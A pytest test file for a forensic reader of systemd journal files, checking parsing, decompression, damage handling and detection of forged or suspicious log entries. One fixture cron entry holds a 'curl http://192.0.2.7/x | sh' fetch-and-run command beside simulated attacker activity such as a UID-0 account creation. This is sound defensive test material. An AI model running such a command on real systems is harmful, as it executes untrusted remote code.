"""Journals of systemd: what systemd wrote is what is read, in every form; damage, forgery."""

import io
import random
import struct
import tracemalloc
import zlib
from pathlib import Path

import journals
import pytest
import zstandard
from examinations import examine
from hypothesis import given, settings
from hypothesis import strategies as st
from journals import BOOT, LZ4, NOON, XZ, ZSTD, Bytes, entry, sshd

from evidence.triage.journal import fields as reading
from evidence.triage.journal import hashing
from evidence.triage.journal import reader as journal_reader
from evidence.triage.journal.layout import JournalError
from evidence.triage.journal.lost import found_again
from evidence.triage.journal.packed import PackedError, block, unpack
from evidence.triage.journal.reader import Journal
from evidence.triage.linuxlogs.examiner import LinuxLogs
from evidence.triage.linuxlogs.units import _MESSAGES
from evidence.triage.patience import Patience

NAME = "/var/log/journal/0123/system.journal"
KEY = "Accepted publickey for root from 192.0.2.7 port 50022 ssh2: ED25519 SHA256:x"
LONG = "Failed password for " + "taro" * 500 + " from 192.0.2.7 port 50022 ssh2"


def every_kind():
    """Fields short and long, binary, several of a name, empty; two boots."""
    yield sshd(KEY, 1)
    yield sshd(LONG, 2)
    yield entry("日本語の\nメッセージ", 3, SYSLOG_IDENTIFIER="app")
    yield entry(b"\xff\xfe\0\x01" * 300, 4, SYSLOG_IDENTIFIER="app", _UID="1000")
    yield entry("", 5, _UID=("7", "8"))
    yield {"__REALTIME_TIMESTAMP": str(NOON + 6 * 10**6), "__MONOTONIC_TIMESTAMP": "7000001",
           "_BOOT_ID": "c1" * 16, "PRIORITY": "6"}  # fmt: skip
    for number in range(40):
        yield sshd(f"Failed password for u{number} from 192.0.2.7 port {number} ssh2", 7 + number)


def read(data):
    """Every entry of a journal's bytes, and what is told of it."""
    journal = Journal(io.BytesIO(data), Patience(60))
    return list(journal), list(journal.shortcomings())


def messages(data):
    return [each.value("MESSAGE") for each in read(data)[0]]


@pytest.fixture(scope="module")
def plain(tmp_path_factory) -> Bytes:
    """Nothing in it is packed."""
    return Bytes.of(journals.journal(tmp_path_factory.mktemp("plain"), every_kind(), packed=False))


@pytest.fixture
def copy(plain) -> Bytes:
    """One to be damaged."""
    return Bytes(plain)


@pytest.fixture
def looked(tmp_path):
    def look(*files: bytes):
        names = (NAME.replace("system", f"system@{n}") if n else NAME for n in range(len(files)))
        return examine(LinuxLogs(), tmp_path, dict(zip(names, map(bytes, files), strict=True)))

    return look


# As systemd reads it.


def agree(path):
    """Whether each wanted field, number and time is what journalctl says."""
    told = journals.by_journalctl(path)
    with path.open("rb") as file:
        journal = Journal(file, Patience(60))
        found = list(journal)
        for each in found:
            for name in each.fields:
                journal.check(each, name)
        assert list(journal.shortcomings()) == []
    assert len(found) == len(told) > 0
    for ours, theirs in zip(found, told, strict=True):
        cursor = dict(part.split("=") for part in theirs["__CURSOR"].decode().split(";"))
        wanted = {name: value for name, value in theirs.items() if name.encode() in reading.WANTED}
        assert {name: field.value for name, field in ours.fields.items()} == wanted
        assert ours.realtime == int(theirs["__REALTIME_TIMESTAMP"])
        assert ours.monotonic == int(theirs["__MONOTONIC_TIMESTAMP"])
        assert ours.boot == theirs["_BOOT_ID"].decode() == cursor["b"]
        assert ours.number == int(cursor["i"], 16)


@pytest.mark.parametrize("packed", [True, False], ids=["packed", "plain"])
@pytest.mark.parametrize("keyed", [True, False], ids=["keyed", "not keyed"])
@pytest.mark.parametrize("compact", [True, False], ids=["compact", "wide"])
def test_a_journal_is_read_as_systemd_reads_it(compact, keyed, packed, tmp_path):
    agree(
        journals.journal(tmp_path, every_kind(), compact=compact, keyed=keyed, packed=packed)
    )  # fmt: skip


@pytest.mark.parametrize("how", [XZ, LZ4, ZSTD], ids=["XZ", "LZ4", "ZSTD"])
@pytest.mark.parametrize("compact", [True, False], ids=["compact", "wide"])
def test_every_packing_is_read_as_systemd_reads_it(compact, how, tmp_path):
    path = journals.journal(tmp_path, every_kind(), compact=compact, packed=False)
    data = Bytes.of(path)

    assert data.pack(how) == 2
    path.write_bytes(data)
    agree(path)


def test_numbers_of_messages_are_those_of_systemd_s_catalogue():
    catalogue = Path("/usr/lib/systemd/catalog/systemd.catalog").read_bytes()
    subjects = {
        number: catalogue.partition(b"-- " + number + b"\nSubject: ")[2].splitlines()[0]
        for number in _MESSAGES
    }

    assert {_MESSAGES[number]: subject for number, subject in subjects.items()} == {
        "started": b"A start job for unit @UNIT@ has finished successfully",
        "failed": b"A start job for unit @UNIT@ has failed",
    }


# Rows.


def test_an_entry_becomes_a_row_with_who_really_wrote_it(looked, plain):
    found = looked(plain)
    first, *_ = found.tables["ssh_signins"]
    offset = next(each.offset for each in read(plain)[0])

    assert found.said == []
    assert first == {
        "time": "2024-05-19T12:00:01.000000Z", "local": None, "year": "entry", "host": "srv1",
        "what": "accepted", "times": 1, "method": "publickey", "user": "root",
        "address": "192.0.2.7", "port": "50022", "uid": "0", "exe": "/usr/sbin/sshd",
        "unit": "ssh.service", "line": None, "offset": offset, "origin": NAME, "item": None,
    }  # fmt: skip
    assert plain[offset] == journals.ENTRY


def test_what_only_calls_itself_sshd_is_a_row_that_shows_it(looked, tmp_path):
    forged = sshd(KEY, _UID="1000", _EXE="/usr/bin/logger", _COMM="logger", _SYSTEMD_UNIT="x.scope")
    (row,) = looked(Bytes.of(journals.journal(tmp_path, [forged]))).tables["ssh_signins"]

    assert (row["uid"], row["exe"], row["unit"]) == ("1000", "/usr/bin/logger", "x.scope")


def test_what_logs_of_text_tell_journals_tell_too(looked, tmp_path):
    told = [
        entry("(root) CMD (curl http://192.0.2.7/x | sh)", SYSLOG_IDENTIFIER="CRON"),
        entry("taro : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", SYSLOG_IDENTIFIER="sudo"),
        entry("(to root) taro on pts/1", _COMM="su"),
        entry("new user: name=backup2, UID=0, GID=0, home=/root", SYSLOG_IDENTIFIER="useradd"),
        entry("(taro) REPLACE (root)", SYSLOG_IDENTIFIER="crontab"),
        entry("(to root) taro on pts/1", SYSLOG_IDENTIFIER="other"),
        entry("(to root) taro on pts/1"),
    ]
    found = looked(Bytes.of(journals.journal(tmp_path, told)))

    assert {name: len(rows) for name, rows in found.tables.items()} == {
        "cron_runs": 1, "sudo": 1, "su": 1, "linux_accounts": 1, "cron_changes": 1,
        "journals": 1, "journal_boots": 1, "journal_sequences": 1,
    }  # fmt: skip


@pytest.mark.parametrize(("uid", "rules"), [("0", ["ssh_guess_then_signin"]), ("1000", [])])
def test_guesses_that_led_in_are_seen_where_sshd_itself_wrote_them(uid, rules, looked, tmp_path):
    failed = "Failed password for root from 192.0.2.7 port 50022 ssh2"
    came = failed.replace("Failed", "Accepted")
    entries = [sshd(came if n == 10 else failed, n + 1, _UID=uid) for n in range(11)]
    found = looked(Bytes.of(journals.journal(tmp_path, entries)))

    assert found.rules == rules
    assert all(int(each.offset) > 0 and not each.place for each in found.observations)


def test_a_journal_and_a_log_of_text_of_one_host_are_counted_apart(tmp_path, plain):
    line = f"2024-05-19T12:00:01Z srv1 sshd[1]: {KEY}\n".encode()
    found = examine(LinuxLogs(), tmp_path, {NAME: bytes(plain), "/var/log/auth.log": line})
    counts = [row for row in found.tables["ssh_counts"] if row["result"] == "accepted"]

    assert sorted((row["log"], row["count"]) for row in counts) == [("journal", 1), ("text", 1)]


def test_starts_of_units_are_counted_from_when_on(looked, tmp_path):
    started, failed = (number.decode() for number in _MESSAGES)

    def start(unit, at, what=started, **fields):
        return entry("x", at, UNIT=unit, MESSAGE_ID=what, _UID="0", **fields)

    told = [
        start("ssh.service", 1), start("ssh.service", 9), start("evil.service", 5),
        start("evil.service", 6, failed), start("session-3.scope", 7),
        entry("x", 8, USER_UNIT="own.timer", MESSAGE_ID=started, _UID="1000"),
        entry("Started fake.service", 8, UNIT="fake.service"),
    ]  # fmt: skip
    rows = looked(Bytes.of(journals.journal(tmp_path, told))).tables["unit_starts"]

    assert [(row["unit"], row["what"], row["uid"], row["count"], row["first"][17:19],
             row["last"][17:19]) for row in rows] == [
        ("ssh.service", "started", "0", 2, "01", "09"),
        ("evil.service", "started", "0", 1, "05", "05"),
        ("evil.service", "failed", "0", 1, "06", "06"),
        ("own.timer", "started", "1000", 1, "08", "08"),
    ]  # fmt: skip


# What it still holds.


def test_a_journal_says_from_when_until_when_it_reaches_and_which_boots(looked, plain):
    found = looked(plain)
    (row,) = found.tables["journals"]

    assert {name: row[name] for name in row if name not in ("machine", "sequence")} == {
        "entries": 46, "oldest": "2024-05-19T12:00:01.000000Z",
        "newest": "2024-05-19T12:00:46.000000Z", "state": "offline", "boots": 2,
        "first_number": 1, "last_number": 46, "gaps": 0, "missing": 0, "clock_back": 0,
        "unlisted": 0, "seals": 0, "origin": NAME, "item": None,
    }  # fmt: skip
    assert [
        (each["boot"], each["entries"], each["uptime_at_oldest"])
        for each in found.tables["journal_boots"]
    ] == [(BOOT, 45, 1), ("c1" * 16, 1, 7)]


def test_numbers_that_one_journal_lacks_another_has(looked, plain):
    users, system = Bytes(plain), Bytes(plain)
    for number, (offset, _, _) in enumerate(plain.objects(journals.ENTRY)):
        later = 10 * (number > 20)
        users.set(offset + 16, 2 * number + 1 + later)
        system.set(offset + 16, 2 * number + 2 + later)
    found = looked(system, users)
    (sequence,) = found.tables["journal_sequences"]

    assert [row["gaps"] for row in found.tables["journals"]] == [45, 45]
    assert {name: sequence[name] for name in sequence if name != "sequence"} == {
        "files": 2, "first_number": 1, "last_number": 102, "gaps": 1, "missing": 10,
    }  # fmt: skip


def test_a_clock_that_was_put_back_is_counted(looked, tmp_path):
    times = [0, 100, 30, 200, 150, 151]  # back by 70 and by 50 seconds
    told = [entry(f"{at}", at, boot=f"{at + 1:032x}") for at in times]
    (row,) = looked(Bytes.of(journals.journal(tmp_path, told))).tables["journals"]

    assert (row["clock_back"], row["entries"]) == (1, 6)


def test_more_sequences_than_a_host_has_are_told(looked, plain, monkeypatch):
    monkeypatch.setattr("evidence.triage.journal.account._MOST", 1)
    other = Bytes(plain)
    other[72:88] = b"x" * 16
    found = looked(plain, other)

    assert found.unread == ["journal_sequences: 1 more are not counted"]
    assert [row["boot"] for row in found.tables["journal_boots"]] == [BOOT, "(others)"] * 2


# What is told of it.


def test_a_journal_that_was_not_closed_says_so(looked, copy):
    copy.set_state(1)
    found = looked(copy)

    assert found.unread == ["the journal was in use or not closed; its last entries may be missing"]
    assert found.tables["journals"][0]["state"] == "online"


def test_seals_are_counted_and_told_as_not_checked(looked, copy):
    copy.append(journals.TAG, bytes(48))
    copy[8] |= 1
    found = looked(copy)

    assert found.unread == ["sealed (FSS): 1 seals are in it, and were not checked"]
    assert found.tables["journals"][0]["seals"] == 1


def test_an_entry_that_no_list_names_is_read_and_counted(looked, copy):
    start, _, size = list(copy.objects(journals.ENTRY))[3]
    payload = bytes(copy[start + 16 : start + size])
    copy.append(journals.ENTRY, struct.pack("<Q", 47) + payload[8:])
    found = looked(copy)

    assert found.said == []
    (row,) = found.tables["journals"]
    assert (row["entries"], row["unlisted"], row["last_number"]) == (47, 1, 47)


def test_a_text_that_was_changed_afterwards_is_told_by_its_hash(looked, copy):
    place = copy.field(b"MESSAGE=Accepted")
    start = copy.index(b"192.0.2.7", place)
    copy[start : start + 9] = b"10.20.3.4"
    found = looked(copy)

    assert found.tables["ssh_signins"][0]["address"] == "10.20.3.4"
    assert found.unread == [
        f"byte {place}: damaged, or changed after it was written: "
        "the hash of MESSAGE is another one"
    ]


# Damage.


def test_a_file_that_was_cut_off_is_read_to_the_cut(looked, plain):
    tail = [offset for offset, _, _ in plain.objects(journals.ENTRY)][30]
    found = looked(plain[:tail])
    told = found.unread

    assert found.tables["journals"][0]["entries"] == 30
    assert told[0] == (f"cut off: the last {len(plain) - tail} bytes that its header counts are "
                       "not here")  # fmt: skip
    assert told[1] == "its header counts 46 entries, and 30 were read"
    assert "out of order, or outside" in told[2]


def test_where_zeros_lie_the_list_leads_on(looked, copy):
    entries = [offset for offset, _, _ in copy.objects(journals.ENTRY)]
    start, end = entries[20], entries[24]
    copy[start:end] = bytes(end - start)
    found = looked(copy)

    assert found.tables["journals"][0]["entries"] == 42
    assert f"byte {start}: no entry is here, though the list names it" in found.unread
    assert f"byte {start}: no object is here; read on from byte {end}" in found.unread


@pytest.mark.parametrize("size", [0, 15, 63, 1 << 20, 1 << 63], ids=str)
def test_an_object_that_lies_about_its_size_costs_itself(size, looked, copy):
    entries = [offset for offset, _, _ in copy.objects(journals.ENTRY)]
    copy.set(entries[20] + 8, size)
    found = looked(copy)

    assert found.tables["journals"][0]["entries"] == 45
    assert any(f"byte {entries[20]}: " in why for why in found.unread)


def test_an_object_that_reaches_over_entries_hides_none(looked, copy):
    place = copy.field(b"MESSAGE=Failed password for u10")
    following = next(at for at, _, _ in copy.objects(journals.ENTRY) if at > place)
    copy.set(place + 8, 2000)
    found = looked(copy)

    assert found.tables["journals"][0]["entries"] == 46
    assert f"byte {place}: an object reaches over the entry at byte {following}" in found.unread
    assert any(f"byte {place}: damaged" in why for why in found.unread)


def test_without_its_list_a_journal_is_read_from_object_to_object(looked, copy):
    copy.unlist()
    found = looked(copy)

    assert found.said == []
    assert (found.tables["journals"][0]["entries"], found.tables["journals"][0]["unlisted"]) == (
        46, 46,
    )  # fmt: skip


BROKEN_LISTS = {
    "it leads to itself": lambda data: data.set(data.list + 16, data.list),
    "it leads back": lambda data: data.set(data.list + 16, 8),
    "it leads outside": lambda data: data.set(data.list + 16, 1 << 62),
    "it leads to another object": lambda data: data.set(data.list + 16, data.field(b"MESSAGE=Acc")),
    "it has no end": lambda data: data.set(data.list + 8, 1 << 62),
    "its entries repeat": lambda data: data.__setitem__(
        slice(data.list + 28, data.list + 32), data[data.list + 24 : data.list + 28]
    ),
    "it names no entry": lambda data: struct.pack_into(
        "<I", data, data.list + 24, data.field(b"MESSAGE=Accepted")
    ),
}


@pytest.mark.parametrize("name", BROKEN_LISTS)
def test_a_broken_list_costs_no_entry(name, looked, copy):
    BROKEN_LISTS[name](copy)
    found = looked(copy)

    assert found.tables["journals"][0]["entries"] == 46
    assert 0 < len(found.unread) < 3


def test_where_list_and_objects_end_objects_are_looked_for(looked, copy):
    entries = [offset for offset, _, _ in copy.objects(journals.ENTRY)]
    copy.unlist()
    copy[entries[20] : entries[24] - 4] = b"\x03" * (entries[24] - 4 - entries[20])
    found = looked(copy)

    assert found.tables["journals"][0]["entries"] == 42
    assert any(f"byte {entries[20]}: an object that says" in why and "read on from" in why
               for why in found.unread)  # fmt: skip


def test_what_looks_like_an_entry_within_a_message_is_none(tmp_path):
    fake = struct.pack("<BB6xQ", journals.ENTRY, 0, 64) + entry_of(9)
    told = [entry(b"x" * shift + fake * 5) for shift in range(8)]
    found, why = read(journals.journal(tmp_path, told, packed=False).read_bytes())

    assert (len(found), why) == (8, [])


def test_zeros_where_the_journal_should_go_on_are_told(copy):
    start = [offset for offset, _, _ in copy.objects(journals.ENTRY)][20]
    copy.unlist()
    copy[start:] = bytes(len(copy) - start)

    assert read(copy)[1] == [
        "its header counts 46 entries, and 20 were read",
        f"byte {start}: no object is here; nothing behind it was read",
    ]


@pytest.mark.parametrize("before", [200, 68], ids=["alone", "between places"])
def test_what_only_looks_like_an_object_is_not_taken_for_one(before, copy):
    entries = [offset for offset, _, _ in copy.objects(journals.ENTRY)]
    start, end = entries[20], entries[23]
    fake = struct.pack("<BB6xQ", journals.ENTRY, 0, 64) + entry_of(99)
    copy.unlist()
    copy[start:end] = b"\x03" * (end - start)
    copy[end - before : end - before + 64] = fake
    found, told = read(copy)

    assert [each.number for each in found[20:]] == list(range(24, 47))
    assert told[1].endswith(f"read on from byte {end}")


def test_objects_are_found_wherever_they_begin_again():
    objects = struct.pack("<BB6xQ24x", journals.FIELD, 0, 40) * 5
    for distance in range(8, 5000, 8):
        data = b"\xff" * distance + objects
        assert found_again(io.BytesIO(data), 0, len(data), Patience(60)) == distance


@pytest.mark.parametrize("hole", [True, False], ids=["holes", "objects"])
def test_a_journal_that_takes_too_long_is_read_so_far(hole, plain, tmp_path, monkeypatch):
    monkeypatch.setattr(journal_reader, "SECONDS", 0 if not hole else 0.5)
    monkeypatch.setattr(journal_reader, "OF_A_MIB", 0)
    path = tmp_path / "journal"
    path.write_bytes(plain)
    with path.open("r+b") as file:
        if hole:
            file.write(plain[:136] + struct.pack("<Q", 1 << 39))  # where the last object lies
            file.truncate(1 << 40)
    found = examine(LinuxLogs(), tmp_path, {NAME: path})

    assert found.unread[0].startswith("takes longer than 0 seconds; not looked at beyond byte ")
    assert len(found.tables["ssh_signins"]) == (42 if hole else 0)


def test_behind_the_last_damage_nothing_is_found(copy):
    end = len(copy)
    copy += b"\x03" * 3000

    assert read(copy)[1] == [
        f"byte {end}: an object that says that it has {0x0303030303030303} bytes; "
        "nothing behind it was read"
    ]


def test_an_entry_that_was_not_written_to_its_end_is_a_gap(looked, copy):
    offset = [offset for offset, _, _ in copy.objects(journals.ENTRY)][20]
    copy[offset + 16 : offset + 64] = bytes(48)
    found = looked(copy)

    assert found.tables["journals"][0]["entries"] == 45
    assert found.unread == [
        "its header counts 46 entries, and 45 were read",
        f"byte {offset}: an entry that was not written to its end",
    ]


def test_a_time_that_no_calendar_has_is_none(looked, copy):
    offset = next(offset for offset, _, _ in copy.objects(journals.ENTRY))
    copy.set(offset + 24, 1 << 63)
    found = looked(copy)

    assert found.unread == ["1 entries tell no time that can be read"]
    assert found.tables["ssh_signins"][0]["time"] is None
    assert found.tables["journals"][0]["newest"] == "2024-05-19T12:00:46.000000Z"


def test_a_field_that_is_none_costs_itself(looked, copy):
    place = copy.field(b"SYSLOG_IDENTIFIER=sshd")
    copy[place] = journals.TAG
    found = looked(copy)

    assert found.unread[-1] == f"byte {place}: a field was not read: there is none"
    assert len(found.tables["ssh_signins"]) == 42  # by the name of the program


def test_an_entry_with_fields_without_end_is_looked_at_in_part(copy):
    place = copy.field(b"MESSAGE=Accepted")
    offset = copy.append(journals.ENTRY, entry_of(47, *[place] * 5000))
    found, told = read(copy)

    assert found[-1].value("MESSAGE").startswith(b"Accepted")
    assert told == [f"byte {offset}: an entry of 5000 fields; 1024 were looked at"]


def test_an_object_of_a_later_version_is_stepped_over_and_told(copy):
    offset = copy.append(9, bytes(100))

    assert read(copy)[1] == [f"byte {offset}: an object of a kind that is not known here"]


HEADERS = {
    "another file": (b"%PDF", "the file does not begin as a journal"),
    "cut": (b"LPKSHHRH" + bytes(50), "cut off within its header, after 58 bytes"),
    "of a later version": (
        b"LPKSHHRH" + struct.pack("<II", 0, 0x20) + bytes(300),
        "written with features that are not known here (0x20)"),
    "without objects": (
        b"LPKSHHRH" + bytes(80) + struct.pack("<Q", 1 << 40) + bytes(200),
        "its header says that it has 1099511627776 bytes"),
    "between places": (
        b"LPKSHHRH" + bytes(80) + struct.pack("<Q", 209) + bytes(200),
        "its header says that it has 209 bytes"),
}  # fmt: skip


@pytest.mark.parametrize("name", HEADERS)
def test_what_is_no_journal_says_why(name, looked):
    data, why = HEADERS[name]
    found = looked(data)

    assert (found.unread, dict(found.tables)) == ([why], {})


def test_a_journal_without_entries_is_no_fault(looked, copy):
    first = next(copy.objects(journals.DATA))[0]
    empty = Bytes(copy[:first] + bytes(4096))
    empty.set(96, len(empty) - empty.number(88))
    empty.set(136, 0)
    empty.unlist()
    empty.say(0)
    found = looked(empty)

    assert found.said == []
    assert (found.tables["journals"][0]["entries"], found.tables["journals"][0]["oldest"]) == (
        0, None,
    )  # fmt: skip


# Packed.


def entry_of(number, *places):
    """The payload of an entry."""
    head = struct.pack("<QQQ16sQ", number, NOON, 0, bytes(16), 0)
    return head + struct.pack(f"<{len(places)}I", *places)


def with_message(data, how, payload):
    """A journal in which the long message is packed so."""
    data.put(data.field(b"MESSAGE=Failed password for tarotaro"), how, payload)
    return data


@pytest.mark.parametrize("how", [XZ, LZ4, ZSTD], ids=["XZ", "LZ4", "ZSTD"])
def test_a_bomb_is_unpacked_in_part(how, copy):
    payload = journals.PACKERS[how](b"MESSAGE=" + bytes(32 << 20))
    assert len(payload) < 1 << 18
    place = copy.append(journals.DATA, bytes(copy.head - 16) + payload)
    copy[place + 1] = how
    copy.append(journals.ENTRY, entry_of(47, place))
    file = io.BytesIO(copy)
    tracemalloc.start()
    try:
        journal = Journal(file, Patience(60))
        *_, last = journal
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert last.value("MESSAGE") == bytes(reading.LONGEST - len("MESSAGE="))
    assert list(journal.shortcomings()) == [
        "of fields longer than 16384 bytes, the ends were not looked at"
    ]
    assert peak < 16 << 20


@pytest.mark.parametrize("how", [XZ, LZ4, ZSTD], ids=["XZ", "LZ4", "ZSTD"])
def test_what_can_t_be_unpacked_is_a_gap_with_its_place(how, copy):
    payload = journals.PACKERS[how](b"MESSAGE=" + random.Random(1).randbytes(900))
    place = copy.field(b"MESSAGE=Failed password for tarotaro")
    found, told = read(with_message(copy, how, payload[:-40]))

    assert len(found) == 46
    assert "MESSAGE" not in found[1].fields
    assert told == [f"byte {place}: a field was not read: packed, and cut off"]


def test_a_packing_of_a_later_version_is_a_gap(copy):
    place = copy.field(b"MESSAGE=Accepted")
    copy[place + 1] = 3
    _, told = read(copy)

    assert told == [
        f"byte {place}: a field was not read: packed in no way that is known here (0x3)"
    ]


def test_a_size_that_lies_before_lz4_is_told():
    packed = journals.lz4(b"MESSAGE=" + b"ab" * 400)
    longer = struct.pack("<Q", 5000) + packed[8:]

    with pytest.raises(PackedError, match="cut off"):
        unpack(LZ4, longer, 1 << 14, cut=False)
    assert unpack(LZ4, struct.pack("<Q", 13) + packed[8:], 1 << 14, cut=False) == b"MESSAGE=ababa"
    with pytest.raises(PackedError, match="without its size"):
        unpack(LZ4, packed[:7], 1 << 14, cut=False)


def test_what_needs_much_memory_to_be_unpacked_is_not():
    xz = bytearray(journals.xz(b"MESSAGE=" + b"ab" * 400))
    end = 12 + 4 * xz[12]  # of the block's header, before its checksum
    xz[16] = 40  # a dictionary of 4 GiB
    xz[end : end + 4] = struct.pack("<I", zlib.crc32(xz[12:end]))
    wide = zstandard.ZstdCompressionParameters(window_log=27, write_content_size=False)
    stream = zstandard.ZstdCompressor(compression_params=wide).compressobj()
    zstd = stream.compress(b"MESSAGE=" + b"ab" * 400) + stream.flush()

    with pytest.raises(PackedError, match="XZ: Memory usage limit exceeded"):
        unpack(XZ, bytes(xz), 1 << 14, cut=False)
    with pytest.raises(PackedError, match=r"ZSTD: .* too much memory"):
        unpack(ZSTD, zstd, 1 << 14, cut=False)


def test_lz4_that_leads_back_too_far_is_told():
    with pytest.raises(PackedError, match="leads back by 9 bytes, where only 1 are"):
        block(b"\x10a\x09\x00\x00", 100)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.binary(max_size=40), st.integers(1, 400)), max_size=30),
       st.integers(1, 20_000))  # fmt: skip
def test_lz4_unpacks_what_its_own_library_packed(pieces, most):
    plain = b"".join(piece * times for piece, times in pieces)
    packed = journals.lz4(plain)

    assert block(packed[8:], max(len(plain), 1)) == plain
    assert block(packed[8:], most) == plain[:most]


# Made to hurt.


def test_fields_that_are_asked_for_without_end_end(looked, copy, monkeypatch):
    monkeypatch.setattr(reading, "_ALWAYS", 0)
    monkeypatch.setattr(reading, "_TIMES", 0.001)
    found = looked(copy)

    assert found.unread[0] == "entries ask for more than a journal of this size can hold"
    assert "its header counts 46 entries, and " in found.unread[1]
    assert 0 < found.tables["journals"][0]["entries"] < 46


def test_places_without_fields_that_are_asked_for_without_end_end(copy, monkeypatch):
    monkeypatch.setattr(reading, "_ALWAYS", 0)
    monkeypatch.setattr(reading, "_TIMES", 0.1)
    for number in range(40):
        copy.append(journals.ENTRY, entry_of(47 + number, *range(number, 10**6, 1000)))
    journal = Journal(io.BytesIO(copy), Patience(60))

    with pytest.raises(JournalError, match="more than a journal of this size can hold"):
        list(journal)


def test_few_fields_that_are_kept_make_no_difference(plain, monkeypatch):
    known = read(plain)
    monkeypatch.setattr(reading, "_KEPT", 0)

    assert read(plain) == known


def test_many_faults_are_counted(looked, copy):
    for offset, _, size in copy.objects(journals.ENTRY):
        for place in range(offset + 64, offset + size, 4):
            struct.pack_into("<I", copy, place, place + 1)
    found = looked(copy)

    assert len(found.unread) == 21
    assert all(why.endswith(": no place for one") for why in found.unread[:-1])
    assert found.unread[-1].startswith("and ")


def test_memory_stays_flat(tmp_path):
    told = (sshd(f"session {number} of somebody {'x' * (number % 300)}", number)
            for number in range(30_000))  # fmt: skip
    path = journals.journal(tmp_path, told)
    assert path.stat().st_size > 16 << 20
    with path.open("rb") as file:
        tracemalloc.start()
        try:
            count = sum(1 for _ in Journal(file, Patience(60)))
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    assert count == len(journals.by_journalctl(path)) > 10_000
    assert peak < 10 << 20


def spots(data):
    """Where bytes mean something: the header, and behind the tables of hashes."""
    first = next(data.objects(journals.DATA))[0]
    return st.integers(0, 271) | st.integers(first, len(data) - 1)


@pytest.fixture(scope="module")
def packed_as(plain):
    """The same journal, not packed and packed in every way."""
    made = {0: plain}
    for how in (XZ, LZ4, ZSTD):
        made[how] = Bytes(plain)
        made[how].pack(how)
    return made


@settings(max_examples=300, deadline=None)
@given(st.data(), st.sampled_from([0, XZ, LZ4, ZSTD]))
def test_damage_ends_in_gaps_and_no_text_is_made_up(packed_as, data, how):
    known = packed_as[how]
    texts = set(messages(known))
    damaged = Bytes(known)
    for _ in range(data.draw(st.integers(1, 8))):
        damaged[data.draw(spots(known))] = data.draw(st.integers(0, 255))
    if data.draw(st.booleans()):
        del damaged[data.draw(spots(known)) :]
    try:
        journal = Journal(io.BytesIO(damaged), Patience(60))
        last = -1
        altered = cut = False
        for each in journal:
            assert each.offset > last
            last = each.offset
            field = each.fields.get("MESSAGE")
            if field is not None and field.value not in texts:
                altered, cut = altered or field.whole, cut or not field.whole
                journal.check(each, "MESSAGE")
                if not how:
                    assert b"MESSAGE=" + field.value in damaged
        told = "\n".join(journal.shortcomings())
    except JournalError:
        return
    assert not altered or "the hash of MESSAGE is another one" in told or "more faults" in told
    assert not cut or "the ends were not looked at" in told


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=600), st.integers(0, 31))
def test_noise_behind_a_header_is_no_trouble(noise, features):
    head = b"LPKSHHRH" + struct.pack("<II", 0, features) + bytes(72)
    data = head + struct.pack("<QQ", 208, len(noise)) + noise[:104].ljust(104, b"\0") + noise
    found, told = read(data)

    assert len(found) <= len(noise) // 64
    assert all(told)


def test_hashes_are_those_of_their_authors():
    """The examples in the paper on SipHash, and in the source of lookup3."""
    assert hashing.keyed(bytes(range(15)), bytes(range(16))) == 0xA129CA6149BE45E5
    assert hashing.unkeyed(b"Four score and seven years ago") == 0x17770551CE7226E6
    assert hashing.unkeyed(b"") == 0xDEADBEEFDEADBEEF
